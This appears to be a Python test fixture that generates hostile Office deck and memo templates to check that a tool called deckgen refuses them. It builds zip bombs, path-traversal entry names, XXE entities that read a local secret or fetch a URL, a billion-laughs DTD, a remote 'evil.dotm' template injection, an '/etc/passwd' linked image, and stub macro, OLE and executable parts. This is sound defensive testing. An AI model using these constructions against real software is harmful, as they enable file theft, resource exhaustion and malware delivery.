"""Hostile and broken deck and memo templates, made at test time from the shipped default set.

Each case writes one file and says what deckgen's refusal must name: the part at fault (None
when the fault is the file as a whole) and a phrase of the message. Nothing binary is kept in
the repository; zip bombs and damaged zips are written byte by byte by ``raw_zip``.
"""

from __future__ import annotations

import functools
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from deckgen.templates.sets import BUILTIN

from support import foreign
from support.foreign import CT, FIXED_TIME, read_parts, set_override

DEFAULT_DECK = BUILTIN / "default" / "deck.pptx"
DEFAULT_MEMO = BUILTIN / "default" / "memo.docx"
PRESENTATION = "ppt/presentation.xml"
PRESENTATION_RELS = "ppt/_rels/presentation.xml.rels"
MASTER = "ppt/slideMasters/slideMaster1.xml"
LAYOUT = "ppt/slideLayouts/slideLayout1.xml"
LAYOUT_RELS = "ppt/slideLayouts/_rels/slideLayout1.xml.rels"
LAYOUT2 = "ppt/slideLayouts/slideLayout2.xml"
DOCUMENT = "word/document.xml"
DOCUMENT_RELS = "word/_rels/document.xml.rels"
STYLES = "word/styles.xml"
SETTINGS = "word/settings.xml"
SETTINGS_RELS = "word/_rels/settings.xml.rels"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PPTM_MAIN = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA_TYPE = "application/vnd.ms-office.vbaProject"
VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MB = 1 << 20
BOMB_BYTES = 250 * MB  # what a bomb would cost fully inflated; deckgen stops long before


@dataclass(frozen=True)
class Env:
    """What a maker may point a hostile file at: a local file holding a marker that must
    never surface, and a URL on a local port where a connection must never arrive."""

    secret: Path
    marker: str
    url: str


@dataclass(frozen=True)
class Case:
    name: str
    kind: str  # "deck" or "memo": the slot the file is given in
    make: Callable[[Path, Env], Path]
    part: str | None  # the part the message must name; None: the file as a whole
    says: str  # a phrase the message must hold
    entities: bool = False  # tries to make a parser read the secret or the URL
    bomb: bool = False  # would cost BOMB_BYTES if inflated: checked for time and memory


# -- raw zips: every header field under the test's control --------------------------------


@dataclass
class Entry:
    name: str
    stored: bytes  # as it lies in the zip (deflated when method is 8)
    size: int  # the uncompressed size the headers declare
    crc: int
    method: int = zipfile.ZIP_DEFLATED
    share: int | None = None  # reuse the local header and data of entry ``share``


def deflated(name: str, data: bytes) -> Entry:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return Entry(name, packer.compress(data) + packer.flush(), len(data), zlib.crc32(data))


def raw_zip(entries: list[Entry]) -> bytes:
    """A zip exactly as ``entries`` say, lies included (sizes, CRCs, shared data)."""
    body = bytearray()
    offsets: list[int] = []
    for entry in entries:
        if entry.share is not None:
            offsets.append(offsets[entry.share])
            continue
        offsets.append(len(body))
        name = entry.name.encode()
        body += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, entry.method, 0, 0x21,
                            entry.crc, len(entry.stored), entry.size, len(name), 0)  # fmt: skip
        body += name + entry.stored
    directory = bytearray()
    for entry, offset in zip(entries, offsets, strict=True):
        source = entries[entry.share] if entry.share is not None else entry
        name = entry.name.encode()
        directory += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 0x031E, 20, 0, source.method, 0,
                                 0x21, source.crc, len(source.stored), source.size, len(name),
                                 0, 0, 0, 0, 0o100644 << 16, offset)  # fmt: skip
        directory += name
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries),
                      len(directory), len(body), 0)  # fmt: skip
    return bytes(body + directory + end)


def package_entries(parts: dict[str, bytes]) -> list[Entry]:
    return [deflated(name, data) for name, data in parts.items()]


@functools.cache
def zeros_deflated(size: int) -> tuple[bytes, int]:
    """``size`` zero bytes deflated (about 1000:1, as in real zip bombs) and their CRC."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(MB)
    stored = b"".join(packer.compress(chunk) for _ in range(size // MB)) + packer.flush()
    crc = 0
    for _ in range(size // MB):
        crc = zlib.crc32(chunk, crc)
    return stored, crc


def zeros(name: str, size: int) -> Entry:
    stored, crc = zeros_deflated(size)
    return Entry(name, stored, size, crc)


# -- edits of the default deck and memo ----------------------------------------------------


def deck_parts() -> dict[str, bytes]:
    return read_parts(DEFAULT_DECK)


def memo_parts() -> dict[str, bytes]:
    return read_parts(DEFAULT_MEMO)


def with_doctype(xml: bytes, doctype: str, reference: str = "") -> bytes:
    """``xml`` with a DOCTYPE after its declaration, and ``reference`` (e.g. an entity) placed
    in the first attribute value named `name=` or `w:val=`, where it would reach an output."""
    declaration, rest = xml.split(b"?>", 1)
    if reference:
        for attr in (b' name="', b' w:val="'):
            if attr in rest:
                rest = rest.replace(attr, attr + reference.encode(), 1)
                break
    return declaration + b"?>" + doctype.encode() + rest


def add_rel(parts: dict[str, bytes], rels: str, rel_type: str, target: str,
            external: bool = False) -> None:  # fmt: skip
    mode = ' TargetMode="External"' if external else ""
    line = f'<Relationship Id="rIdX9" Type="{rel_type}" Target="{target}"{mode}/>'
    if rels not in parts:
        parts[rels] = (
            b"<?xml version='1.0' encoding='UTF-8' standalone='yes'?>\n"
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'relationships"></Relationships>'
        )
    parts[rels] = parts[rels].replace(b"</Relationships>", line.encode() + b"</Relationships>")


def add_default(parts: dict[str, bytes], extension: str, content_type: str) -> None:
    line = f'<Default Extension="{extension}" ContentType="{content_type}"/>'
    parts[CT] = parts[CT].replace(b"<Default ", line.encode() + b"<Default ", 1)


def write_parts(parts: dict[str, bytes], path: Path) -> Path:
    """Parts zipped in the order given, whichever are missing (foreign's writer needs all)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(zipfile.ZipInfo(name, FIXED_TIME), data, zipfile.ZIP_DEFLATED)
    return path


def write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


def edited(
    source: Callable[[], dict[str, bytes]], name: str, edit: Callable[[dict[str, bytes]], None]
) -> Callable[[Path, Env], Path]:
    def make(folder: Path, env: Env) -> Path:
        parts = source()
        edit(parts)
        return write_parts(parts, folder / name)

    return make


def edited_env(
    source: Callable[[], dict[str, bytes]],
    name: str,
    edit: Callable[[dict[str, bytes], Env], None],
) -> Callable[[Path, Env], Path]:
    def make(folder: Path, env: Env) -> Path:
        parts = source()
        edit(parts, env)
        return write_parts(parts, folder / name)

    return make


def raw(
    source: Callable[[], dict[str, bytes]],
    name: str,
    edit: Callable[[list[Entry]], list[Entry]],
) -> Callable[[Path, Env], Path]:
    def make(folder: Path, env: Env) -> Path:
        return write(folder, name, raw_zip(edit(package_entries(source()))))

    return make


# -- not a zip -----------------------------------------------------------------------------


def text_file(folder: Path, env: Env) -> Path:
    return write(folder, "notes.pptx", b"Meeting notes, not a deck.\nSecond line.\n")


def pdf_file(folder: Path, env: Env) -> Path:
    return write(folder, "brief.pptx", b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n")


def empty_file(folder: Path, env: Env) -> Path:
    return write(folder, "empty.docx", b"")


def legacy_file(folder: Path, env: Env) -> Path:
    return write(folder, "old.docx", OLE_MAGIC + bytes(504))


# -- a damaged zip -------------------------------------------------------------------------


def truncated(folder: Path, env: Env) -> Path:
    data = DEFAULT_DECK.read_bytes()
    return write(folder, "truncated.pptx", data[: len(data) // 2])


def bad_crc(entries: list[Entry]) -> list[Entry]:
    for entry in entries:
        if entry.name == DOCUMENT:
            data = zlib.decompress(entry.stored, -15)
            entry.method, entry.stored = zipfile.ZIP_STORED, data
            entry.crc ^= 0x5A5A5A5A  # the data is intact; its checksum says otherwise
    return entries


def bad_deflate(entries: list[Entry]) -> list[Entry]:
    for entry in entries:
        if entry.name == LAYOUT:
            entry.stored = entry.stored[:20] + b"\xff" * 40 + entry.stored[60:]
    return entries


# -- entry names ---------------------------------------------------------------------------


def named(extra: str) -> Callable[[list[Entry]], list[Entry]]:
    def edit(entries: list[Entry]) -> list[Entry]:
        return [*entries, deflated(extra, b"<x/>")]

    return edit


def too_many(entries: list[Entry]) -> list[Entry]:
    tiny = deflated("ppt/media/x.xml", b"<x/>")
    extra = [Entry(f"ppt/media/x{i}.xml", tiny.stored, tiny.size, tiny.crc) for i in range(10_001)]
    return entries + extra


def duplicate(entries: list[Entry]) -> list[Entry]:
    return [*entries, deflated(LAYOUT, b"<p:sldLayout/>")]


# -- zip bombs -----------------------------------------------------------------------------


def bomb_one_part(entries: list[Entry]) -> list[Entry]:
    """One picture that inflates to 250 MB: past the per-part limit by its header."""
    return [*entries, zeros("ppt/media/image1.png", BOMB_BYTES)]


def huge_claim(entries: list[Entry]) -> list[Entry]:
    """A part whose headers claim 150 MB from 1 MB (a plausible 150:1): refused for the claim
    alone, before a byte of it is read."""
    data = bytes((i * 7919) % 251 for i in range(MB))
    return [*entries, Entry("ppt/media/video1.mp4", data, 150 * MB, zlib.crc32(data),
                            zipfile.ZIP_STORED)]  # fmt: skip


def bomb_ratio(entries: list[Entry]) -> list[Entry]:
    """50 MB from 50 kB, under the per-part limit: refused for its ratio alone."""
    return [*entries, zeros("ppt/media/image1.png", 50 * MB)]


def bomb_lying_header(entries: list[Entry]) -> list[Entry]:
    """250 MB of zeros whose headers claim 1 kB: the reader must believe only what it reads,
    and stop when the part outgrows its claim."""
    entry = zeros("ppt/media/image1.png", BOMB_BYTES)
    entry.size = 1000
    return [*entries, entry]


def bomb_many_small(entries: list[Entry]) -> list[Entry]:
    """250 parts of 1 MB zeros, each too small for the per-part ratio check: the running
    total gives them away."""
    one = zeros("ppt/media/x.bin", MB)
    return entries + [Entry(f"ppt/media/x{i}.bin", one.stored, one.size, one.crc)
                      for i in range(BOMB_BYTES // MB)]  # fmt: skip


def bomb_overlap(entries: list[Entry]) -> list[Entry]:
    """Two hundred and fifty names for the same 1 MB of random bytes (Fifield's overlapping
    zip bomb, simplified): the entries claim more compressed bytes than the file holds."""
    data = bytes((i * 7919) % 251 for i in range(MB))
    first = Entry("ppt/media/x0.bin", data, len(data), zlib.crc32(data), zipfile.ZIP_STORED)
    shared = [Entry(f"ppt/media/x{i}.bin", b"", 0, 0, share=len(entries)) for i in range(1, 250)]
    return [*entries, first, *shared]


# -- missing and malformed parts -----------------------------------------------------------


def drop(name: str) -> Callable[[dict[str, bytes]], None]:
    def edit(parts: dict[str, bytes]) -> None:
        del parts[name]

    return edit


def cut(name: str) -> Callable[[dict[str, bytes]], None]:
    def edit(parts: dict[str, bytes]) -> None:
        parts[name] = parts[name][: len(parts[name]) * 2 // 3]

    return edit


def renamed(source: Path, name: str) -> Callable[[Path, Env], Path]:
    def make(folder: Path, env: Env) -> Path:
        return write(folder, name, source.read_bytes())

    return make


# -- entities and DTDs ---------------------------------------------------------------------


def xxe_file(part: str) -> Callable[[dict[str, bytes], Env], None]:
    """An external entity reading the secret file, used where its text would be printed."""

    def edit(parts: dict[str, bytes], env: Env) -> None:
        doctype = f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{env.secret.as_uri()}">]>'
        parts[part] = with_doctype(parts[part], doctype, "&xxe;")

    return edit


def xxe_http(part: str) -> Callable[[dict[str, bytes], Env], None]:
    def edit(parts: dict[str, bytes], env: Env) -> None:
        doctype = f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{env.url}entity">]>'
        parts[part] = with_doctype(parts[part], doctype, "&xxe;")

    return edit


def external_dtd(part: str) -> Callable[[dict[str, bytes], Env], None]:
    def edit(parts: dict[str, bytes], env: Env) -> None:
        parts[part] = with_doctype(parts[part], f'<!DOCTYPE x SYSTEM "{env.url}evil.dtd">')

    return edit


def parameter_entity(part: str) -> Callable[[dict[str, bytes], Env], None]:
    def edit(parts: dict[str, bytes], env: Env) -> None:
        doctype = f'<!DOCTYPE x [<!ENTITY % remote SYSTEM "{env.url}param.dtd"> %remote;]>'
        parts[part] = with_doctype(parts[part], doctype)

    return edit


def billion_laughs(part: str) -> Callable[[dict[str, bytes]], None]:
    def edit(parts: dict[str, bytes]) -> None:
        levels = ['<!ENTITY lol0 "lol">'] + [
            f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
        ]
        doctype = f"<!DOCTYPE x [{''.join(levels)}]>"
        parts[part] = with_doctype(parts[part], doctype, "&lol9;")

    return edit


def utf16_doctype(part: str) -> Callable[[dict[str, bytes], Env], None]:
    """The same external entity in a UTF-16 part, which a byte scan for ASCII cannot see."""

    def edit(parts: dict[str, bytes], env: Env) -> None:
        doctype = f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{env.secret.as_uri()}">]>'
        text = with_doctype(parts[part], doctype, "&xxe;").decode("utf-8")
        text = text.replace("encoding='UTF-8'", "encoding='UTF-16'")
        text = text.replace('encoding="UTF-8"', 'encoding="UTF-16"')
        parts[part] = text.encode("utf-16")

    return edit


def vml_doctype(parts: dict[str, bytes], env: Env) -> None:
    """A DOCTYPE in a VML drawing: no deckgen parser reads it, but Office and LibreOffice
    would, in every briefing made from the template."""
    parts["ppt/drawings/vmlDrawing1.vml"] = (
        f'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "{env.secret.as_uri()}">]>'
        "<xml>&xxe;</xml>"
    ).encode()
    add_default(parts, "vml", "application/vnd.openxmlformats-officedocument.vmlDrawing")


# -- macros, ActiveX, remote links ---------------------------------------------------------


def vba_deck(parts: dict[str, bytes]) -> None:
    """The default deck as PowerPoint saves it with macros (.pptm), in full."""
    parts["ppt/vbaProject.bin"] = OLE_MAGIC + b'Attribute VB_Name = "Module1"' + bytes(400)
    add_default(parts, "bin", VBA_TYPE)
    set_override(parts, PRESENTATION, PPTM_MAIN)
    add_rel(parts, PRESENTATION_RELS, VBA_REL, "vbaProject.bin")


def vba_only(parts: dict[str, bytes]) -> None:
    parts["ppt/vbaProject.bin"] = OLE_MAGIC + bytes(400)


def macro_type_only(parts: dict[str, bytes]) -> None:
    set_override(parts, PRESENTATION, PPTM_MAIN)


def vba_memo(parts: dict[str, bytes]) -> None:
    parts["word/vbaProject.bin"] = OLE_MAGIC + bytes(400)
    add_default(parts, "bin", VBA_TYPE)
    set_override(parts, DOCUMENT, DOCM_MAIN)
    add_rel(parts, DOCUMENT_RELS, VBA_REL, "vbaProject.bin")


def activex(parts: dict[str, bytes]) -> None:
    parts["ppt/activeX/activeX1.xml"] = (
        b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/'
        b'activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'
    )
    set_override(parts, "ppt/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")


def attached_template(parts: dict[str, bytes], env: Env) -> None:
    """Word's remote template injection: settings name a template on a server, which Word
    fetches (macros and all) whenever a memo made from this file is opened."""
    parts[SETTINGS] = parts[SETTINGS].replace(
        b"</w:settings>", b'<w:attachedTemplate r:id="rIdX9"/></w:settings>'
    )
    if b"xmlns:r=" not in parts[SETTINGS].split(b">", 2)[1]:
        parts[SETTINGS] = parts[SETTINGS].replace(
            b"<w:settings ", f'<w:settings xmlns:r="{REL}" '.encode(), 1
        )
    add_rel(parts, SETTINGS_RELS, f"{REL}/attachedTemplate", f"{env.url}evil.dotm", True)


def linked_image(parts: dict[str, bytes], env: Env) -> None:
    add_rel(parts, LAYOUT_RELS, f"{REL}/image", f"{env.url}logo.png", True)


def linked_local_file(parts: dict[str, bytes], env: Env) -> None:
    """A picture linked, not embedded, to a file on this machine: LibreOffice would read it
    into the PDF (here the secret, by file:// address)."""
    add_rel(parts, LAYOUT_RELS, f"{REL}/image", env.secret.as_uri(), True)


def linked_relative_file(parts: dict[str, bytes], env: Env) -> None:
    """The same, by a path that climbs out of wherever the briefing lies."""
    add_rel(parts, LAYOUT_RELS, f"{REL}/image", "../../../../../etc/passwd", True)


def ole_object(parts: dict[str, bytes]) -> None:
    """An OLE object (an embedded program) on the slide master, carried into every slide."""
    parts["ppt/embeddings/oleObject1.bin"] = OLE_MAGIC + b"\0" * 504
    add_default(parts, "bin", "application/vnd.openxmlformats-officedocument.oleObject")
    add_rel(parts, "ppt/slideMasters/_rels/slideMaster1.xml.rels", f"{REL}/oleObject",
            "../embeddings/oleObject1.bin")  # fmt: skip


def package_object(parts: dict[str, bytes]) -> None:
    """A packaged file (Word's "embedded object": an .exe a reader opens by double click)."""
    parts["word/embeddings/setup.exe"] = b"MZ" + b"\0" * 510
    add_default(parts, "exe", "application/octet-stream")
    add_rel(parts, "word/_rels/document.xml.rels", f"{REL}/package", "embeddings/setup.exe")


# -- layouts -------------------------------------------------------------------------------


def no_layouts(parts: dict[str, bytes]) -> None:
    """A master that lists no layouts (the layout parts stay, unreachable)."""
    root = foreign.xml(parts, MASTER)
    listed = root.find(foreign.q("p:sldLayoutIdLst"))
    for child in list(listed):
        listed.remove(child)
    foreign.put(parts, MASTER, root)


def sub(part: str, pattern: bytes, replacement: bytes) -> Callable[[dict[str, bytes]], None]:
    """Replace the first match of ``pattern`` in ``part`` (a regular expression, dot-all)."""

    def edit(parts: dict[str, bytes]) -> None:
        parts[part] = re.sub(pattern, replacement, parts[part], count=1, flags=re.S)

    return edit


def voided_layout(parts: dict[str, bytes]) -> None:
    """The master's link to its first layout voided to NULL, as add-ins do: python-pptx would
    skip the link, then fail on the layout list that names it."""
    rels = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
    parts[rels] = parts[rels].replace(b"../slideLayouts/slideLayout1.xml", b"../slideLayouts/NULL")


CASES = [
    # not a zip
    Case("text-renamed", "deck", text_file, None, "not an Office file"),
    Case("pdf-renamed", "deck", pdf_file, None, "is a PDF"),
    Case("empty", "memo", empty_file, None, "the file is empty"),
    Case("legacy-doc", "memo", legacy_file, None, "old binary Office file"),
    # a damaged zip
    Case("truncated", "deck", truncated, None, "cut short or damaged"),
    Case("bad-crc", "memo", raw(memo_parts, "crc.docx", bad_crc), DOCUMENT,
         "CRC-32 checksum does not match"),
    Case("bad-deflate", "deck", raw(deck_parts, "deflate.pptx", bad_deflate), LAYOUT,
         "cannot be decompressed"),
    # entry names
    Case("absolute-name", "deck", raw(deck_parts, "abs.pptx", named("/etc/evil.xml")),
         "'/etc/evil.xml'", "absolute or climbs"),
    Case("dotdot-name", "deck", raw(deck_parts, "dotdot.pptx", named("../../evil.xml")),
         "'../../evil.xml'", "absolute or climbs"),
    Case("drive-name", "memo", raw(memo_parts, "drive.docx", named("C:\\evil.xml")),
         "'C:\\\\evil.xml'", "absolute or climbs"),
    Case("duplicate-name", "deck", raw(deck_parts, "dup.pptx", duplicate), LAYOUT,
         "appears twice"),
    Case("too-many-entries", "deck", raw(deck_parts, "many.pptx", too_many), None,
         "a template is limited to 10,000"),
    # zip bombs
    Case("bomb-one-part", "deck", raw(deck_parts, "bomb1.pptx", bomb_one_part),
         "ppt/media/image1.png", "zip bomb", bomb=True),
    Case("huge-claim", "deck", raw(deck_parts, "huge.pptx", huge_claim),
         "ppt/media/video1.mp4", "limit of 100,000,000 per part", bomb=True),
    Case("bomb-ratio", "deck", raw(deck_parts, "bomb2.pptx", bomb_ratio),
         "ppt/media/image1.png", "over 200:1", bomb=True),
    Case("bomb-lying-header", "deck", raw(deck_parts, "bomb3.pptx", bomb_lying_header),
         "ppt/media/image1.png", "damaged", bomb=True),
    Case("bomb-many-small", "deck", raw(deck_parts, "bomb4.pptx", bomb_many_small),
         None, "the parts together expand", bomb=True),
    Case("bomb-overlap", "deck", raw(deck_parts, "bomb5.pptx", bomb_overlap), None,
         "they overlap", bomb=True),
    # missing and malformed parts
    Case("no-content-types", "deck", edited(deck_parts, "noct.pptx", drop(CT)), CT,
         "a required part is missing"),
    Case("no-package-rels", "memo", edited(memo_parts, "norels.docx", drop("_rels/.rels")),
         "_rels/.rels", "a required part is missing"),
    Case("no-main-part", "deck", edited(deck_parts, "nomain.pptx", drop(PRESENTATION)),
         PRESENTATION, "the main part is missing"),
    Case("dangling-styles", "memo", edited(memo_parts, "nostyles.docx", drop(STYLES)),
         DOCUMENT_RELS, "points to word/styles.xml, which is not in the file"),
    Case("malformed-layout", "deck", edited(deck_parts, "badxml.pptx", cut(LAYOUT)), LAYOUT,
         "not well-formed XML"),
    Case("malformed-rels", "memo", edited(memo_parts, "badrels.docx", cut(DOCUMENT_RELS)),
         DOCUMENT_RELS, "not well-formed XML"),
    Case("malformed-app", "memo", edited(memo_parts, "badapp.docx", cut("docProps/app.xml")),
         "docProps/app.xml", "not well-formed XML"),
    # well-formed XML of the wrong shape, which crashed or hung deckgen before
    Case("no-slide-size", "deck",
         edited(deck_parts, "nosize.pptx", sub(PRESENTATION, rb"<p:sldSz[^>]*/>", b"")),
         PRESENTATION, "lacks its required <sldSz> element"),
    Case("zero-slide-size", "deck",
         edited(deck_parts, "zerosize.pptx", sub(PRESENTATION, rb'cx="\d+"', b'cx="0"')),
         PRESENTATION, "is not one PowerPoint allows"),
    Case("layout-without-cSld", "deck",
         edited(deck_parts, "nocsld.pptx", sub(LAYOUT, rb"<p:cSld.*</p:cSld>", b"")),
         LAYOUT, "lacks its required <cSld> element"),
    Case("memo-without-body", "memo",
         edited(memo_parts, "nobody.docx", sub(DOCUMENT, rb"<w:body>.*</w:body>", b"")),
         DOCUMENT, "lacks its required <body> element"),
    Case("styles-wrong-root", "memo",
         edited(memo_parts, "styles.docx",
                sub(STYLES, rb"<w:styles (.*)</w:styles>", rb"<w:foo \1</w:foo>")),
         STYLES, "root element is 'foo'"),
    Case("page-size-not-a-number", "memo",
         edited(memo_parts, "pgsz.docx", sub(DOCUMENT, rb'w:w="\d+"', b'w:w="abc"')),
         DOCUMENT, "pgSz w='abc', which is not a measure"),
    Case("memo-as-deck", "deck", renamed(DEFAULT_MEMO, "memo-renamed.pptx"), DOCUMENT,
         "a Word document, not a PowerPoint deck"),
    Case("deck-as-memo", "memo", renamed(DEFAULT_DECK, "deck-renamed.docx"), PRESENTATION,
         "a PowerPoint deck, not a Word document"),
    # entities and DTDs
    Case("xxe-file-deck", "deck", edited_env(deck_parts, "xxe.pptx", xxe_file(LAYOUT)), LAYOUT,
         "DOCTYPE", entities=True),
    Case("xxe-file-memo", "memo", edited_env(memo_parts, "xxe.docx", xxe_file(STYLES)), STYLES,
         "DOCTYPE", entities=True),
    Case("xxe-http", "deck", edited_env(deck_parts, "xxe-http.pptx", xxe_http(LAYOUT2)),
         LAYOUT2, "DOCTYPE", entities=True),
    Case("external-dtd", "memo", edited_env(memo_parts, "dtd.docx", external_dtd(DOCUMENT)),
         DOCUMENT, "DOCTYPE", entities=True),
    Case("parameter-entity", "deck",
         edited_env(deck_parts, "param.pptx", parameter_entity(MASTER)), MASTER, "DOCTYPE",
         entities=True),
    Case("billion-laughs", "deck", edited(deck_parts, "lol.pptx", billion_laughs(LAYOUT)),
         LAYOUT, "DOCTYPE"),
    Case("utf16-doctype", "memo", edited_env(memo_parts, "utf16.docx", utf16_doctype(SETTINGS)),
         SETTINGS, "DOCTYPE", entities=True),
    Case("vml-doctype", "deck", edited_env(deck_parts, "vml.pptx", vml_doctype),
         "ppt/drawings/vmlDrawing1.vml", "DOCTYPE", entities=True),
    # macros, ActiveX, remote links
    Case("macro-deck-renamed", "deck", edited(deck_parts, "macro.pptx", vba_deck),
         "ppt/vbaProject.bin", "macro-enabled"),
    Case("macro-pptm", "deck", edited(deck_parts, "macro.pptm", vba_deck), None,
         "macro-enabled"),
    Case("vba-part-only", "deck", edited(deck_parts, "vba.pptx", vba_only),
         "ppt/vbaProject.bin", "macro-enabled"),
    Case("macro-type-only", "deck", edited(deck_parts, "mtype.pptx", macro_type_only), CT,
         "macro-enabled"),
    Case("macro-memo-renamed", "memo", edited(memo_parts, "macro.docx", vba_memo),
         "word/vbaProject.bin", "macro-enabled"),
    Case("macro-dotm", "memo", edited(memo_parts, "macro.dotm", vba_memo), None,
         "macro-enabled"),
    Case("activex", "deck", edited(deck_parts, "activex.pptx", activex),
         "ppt/activeX/activeX1.xml", "macro-enabled"),
    Case("attached-template", "memo",
         edited_env(memo_parts, "injected.docx", attached_template), SETTINGS_RELS,
         "fetch from the network", entities=True),
    Case("linked-image", "deck", edited_env(deck_parts, "linked.pptx", linked_image),
         LAYOUT_RELS, "fetch from the network", entities=True),
    Case("linked-local-file", "deck", edited_env(deck_parts, "local.pptx", linked_local_file),
         LAYOUT_RELS, "a file outside the template", entities=True),
    Case("linked-relative-file", "deck",
         edited_env(deck_parts, "relative.pptx", linked_relative_file), LAYOUT_RELS,
         "a file outside the template"),
    Case("ole-object", "deck", edited(deck_parts, "ole.pptx", ole_object),
         "ppt/slideMasters/_rels/slideMaster1.xml.rels", "embeds an object (oleObject"),
    Case("package-object", "memo", edited(memo_parts, "package.docx", package_object),
         "word/_rels/document.xml.rels", "embeds an object (package"),
    # layouts
    Case("voided-layout", "deck", edited(deck_parts, "voided.pptx", voided_layout), MASTER,
         "its sldLayoutId list names relationship"),
    Case("no-layouts", "deck", edited(deck_parts, "nolayouts.pptx", no_layouts), MASTER,
         "the deck template has no slide layouts"),
]  # fmt: skip
